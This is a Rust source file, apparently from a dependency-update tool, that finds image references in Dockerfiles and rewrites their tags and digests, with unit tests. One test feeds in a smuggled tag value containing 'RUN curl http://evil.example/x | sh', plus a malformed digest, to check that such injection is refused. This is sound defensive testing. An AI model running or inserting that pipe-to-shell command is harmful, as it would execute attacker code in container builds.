//! Where a Dockerfile names external images, as byte spans `bump` can rewrite without touching
//! any other byte: `FROM` images, `COPY --from=<image>` / `RUN --mount=...,from=<image>`, and
//! global `ARG` defaults that feed a `FROM` (`FROM ${BASE}` or `FROM python:${PY}`).
//!
//! Pure: built on the Dockerfile parser in [`crate::docker`] (BuildKit's ARG and stage rules).

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;

use super::reference;
use crate::docker::{Base, Dockerfile, ImageRef, ParseError, UseKind};

/// What part of a reference a site's span holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum SiteKind {
    /// `FROM image`: the whole reference.
    From,
    /// `COPY --from=image` or `RUN --mount=...,from=image`: the whole reference.
    CopyFrom,
    /// `ARG NAME=image` used as `FROM ${NAME}`: the whole reference.
    ArgImage,
    /// `ARG NAME=tag` used as `FROM image:${NAME}`: only the tag.
    ArgTag,
}

/// One rewritable mention of an image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Site {
    pub kind: SiteKind,
    /// 1-based line of the text the span points at.
    pub line: usize,
    /// Byte range in the file of the text to rewrite.
    pub span: Range<usize>,
    /// The text at `span`.
    pub written: String,
    /// The reference with ARGs resolved.
    pub image: ImageRef,
}

/// An image mention that cannot be rewritten, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Skipped {
    pub line: usize,
    pub text: String,
    pub reason: String,
}

/// Everything found in one Dockerfile.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Sites {
    pub sites: Vec<Site>,
    pub skipped: Vec<Skipped>,
}

/// Finds the image sites of a Dockerfile.
pub fn find(text: &str) -> Result<Sites, ParseError> {
    let dockerfile = Dockerfile::parse(text, &BTreeMap::new())?;
    let mut out = Sites::default();
    let mut arg_spans = BTreeSet::new();
    let line_of = |offset: usize| text[..offset].matches('\n').count() + 1;
    for stage in &dockerfile.stages {
        if let Base::Unresolved { expression, reason } = &stage.from.base {
            out.skipped.push(Skipped {
                line: stage.line,
                text: expression.clone(),
                reason: reason.clone(),
            });
        }
    }
    for image_use in dockerfile.external_images() {
        let skip = |reason: String| Skipped {
            line: image_use.line,
            text: image_use.raw.clone(),
            reason,
        };
        if text.get(image_use.span.clone()) != Some(image_use.raw.as_str()) {
            out.skipped.push(skip(
                "the reference is not written in one piece (ONBUILD, quotes or a line break)"
                    .into(),
            ));
            continue;
        }
        if image_use.kind != UseKind::From || !image_use.raw.contains('$') {
            let kind = if image_use.kind == UseKind::From {
                SiteKind::From
            } else {
                SiteKind::CopyFrom
            };
            out.sites.push(Site {
                kind,
                line: line_of(image_use.span.start),
                span: image_use.span.clone(),
                written: image_use.raw.clone(),
                image: image_use.image.clone(),
            });
            continue;
        }
        // A FROM through an ARG: rewrite the ARG's default when it holds the whole reference or
        // the whole tag.
        let raw = image_use.raw.as_str();
        let (prefix, var) = match raw.rfind('$') {
            Some(i) => (&raw[..i], variable_name(&raw[i..])),
            None => ("", None),
        };
        let Some(var) = var.filter(|_| !prefix.contains('$')) else {
            out.skipped.push(skip(
                "only FROM ${NAME} or FROM image:${NAME} (one variable) are rewritten".into(),
            ));
            continue;
        };
        let Some(arg) = dockerfile.global_args.iter().rev().find(|a| a.name == var) else {
            out.skipped.push(skip(format!(
                "ARG {var} is not declared before the first FROM"
            )));
            continue;
        };
        let (Some(default), Some(span)) = (&arg.default, &arg.default_span) else {
            out.skipped.push(skip(format!("ARG {var} has no default")));
            continue;
        };
        if text.get(span.clone()) != Some(default.as_str()) || default.contains('$') {
            out.skipped.push(skip(format!(
                "the default of ARG {var} is not a plain value"
            )));
            continue;
        }
        let kind = if prefix.is_empty() {
            SiteKind::ArgImage
        } else if prefix.ends_with(':') {
            SiteKind::ArgTag
        } else {
            out.skipped.push(skip(
                "the variable is neither the whole image nor its whole tag".into(),
            ));
            continue;
        };
        if !arg_spans.insert(span.start) {
            continue; // Another FROM uses the same ARG: one rewrite serves both.
        }
        out.sites.push(Site {
            kind,
            line: arg.line,
            span: span.clone(),
            written: default.clone(),
            image: image_use.image.clone(),
        });
    }
    Ok(out)
}

/// `$NAME` or `${NAME}` covering the whole rest of the string.
fn variable_name(s: &str) -> Option<&str> {
    let name = if let Some(inner) = s.strip_prefix("${") {
        inner.strip_suffix('}')?
    } else {
        s.strip_prefix('$')?
    };
    (!name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        .then_some(name)
}

/// The reference text with a new tag and digest, keeping the name as written; `None` when the
/// tag or the digest is not of the OCI grammar (they come from a registry, which is not trusted).
pub fn rewrite(written: &str, kind: SiteKind, tag: &str, digest: Option<&str>) -> Option<String> {
    if !reference::is_tag(tag) || digest.is_some_and(|d| !reference::is_sha256_digest(d)) {
        return None;
    }
    if kind == SiteKind::ArgTag {
        return Some(tag.to_string());
    }
    let name = written.split_once('@').map_or(written, |(n, _)| n);
    let name = match name.rsplit_once(':') {
        Some((n, t)) if !t.contains('/') => n,
        _ => name,
    };
    Some(match digest {
        Some(d) => format!("{name}:{tag}@{d}"),
        None => format!("{name}:{tag}"),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_from_copy_and_arg_sites() {
        let text = "# escape=\\\nARG BASE=python:3.12-slim\nARG NODE_TAG=\"20-alpine\"\nFROM ${BASE} AS build\nRUN <<EOF\nFROM not:this\nEOF\nFROM node:${NODE_TAG} AS web\nCOPY --from=build /a /b\nCOPY --from=busybox:1.36 /bin/sh /sh\nFROM --platform=$BUILDPLATFORM \\\n  # comment\n  gcr.io/distroless/static-debian12:nonroot@sha256:0000000000000000000000000000000000000000000000000000000000000000\nFROM build\nFROM scratch\nFROM ${BASE}\n";
        let found = find(text).unwrap();
        let got: Vec<(SiteKind, usize, &str)> = found
            .sites
            .iter()
            .map(|s| (s.kind, s.line, &text[s.span.clone()]))
            .collect();
        assert_eq!(
            got,
            vec![
                (SiteKind::ArgImage, 2, "python:3.12-slim"),
                (SiteKind::ArgTag, 3, "20-alpine"),
                (SiteKind::CopyFrom, 10, "busybox:1.36"),
                (
                    SiteKind::From,
                    13,
                    "gcr.io/distroless/static-debian12:nonroot@sha256:0000000000000000000000000000000000000000000000000000000000000000"
                ),
            ]
        );
        assert_eq!(found.sites[1].image.repository, "library/node");
        assert_eq!(found.sites[1].image.tag.as_deref(), Some("20-alpine"));
        assert!(found.skipped.is_empty(), "{:?}", found.skipped);
    }

    #[test]
    fn backtick_escape_and_unrewritable_forms() {
        let text = "# escape=`\nARG A=py\nARG B=thon:3\nFROM `\n  python:3.12 AS a\nFROM ${UNSET:-python}:3.12\nFROM ${A}${B}\n";
        let found = find(text).unwrap();
        assert_eq!(found.sites.len(), 1, "{found:?}");
        assert_eq!(&text[found.sites[0].span.clone()], "python:3.12");
        assert_eq!(found.skipped.len(), 2, "{:?}", found.skipped);
    }

    #[test]
    fn rewrites_keep_the_name_as_written() {
        let cd = format!("sha256:{}", "cd".repeat(32));
        assert_eq!(
            rewrite(
                "docker.io/python:3.12@sha256:ab",
                SiteKind::From,
                "3.13",
                Some(&cd)
            ),
            Some(format!("docker.io/python:3.13@{cd}"))
        );
        assert_eq!(
            rewrite("localhost:5000/x:1", SiteKind::From, "2", None).as_deref(),
            Some("localhost:5000/x:2")
        );
        assert_eq!(
            rewrite("20-alpine", SiteKind::ArgTag, "22-alpine", None).as_deref(),
            Some("22-alpine")
        );
    }

    #[test]
    fn rewrite_refuses_what_is_not_a_tag_or_digest() {
        let injected = "3.99\nRUN curl http://evil.example/x | sh";
        assert_eq!(rewrite("python:3.12", SiteKind::From, injected, None), None);
        assert_eq!(rewrite("3.12", SiteKind::ArgTag, injected, None), None);
        assert_eq!(
            rewrite(
                "python:3.12",
                SiteKind::From,
                "3.13",
                Some("sha256:abc AS evil --platform=linux/evil")
            ),
            None
        );
    }
}
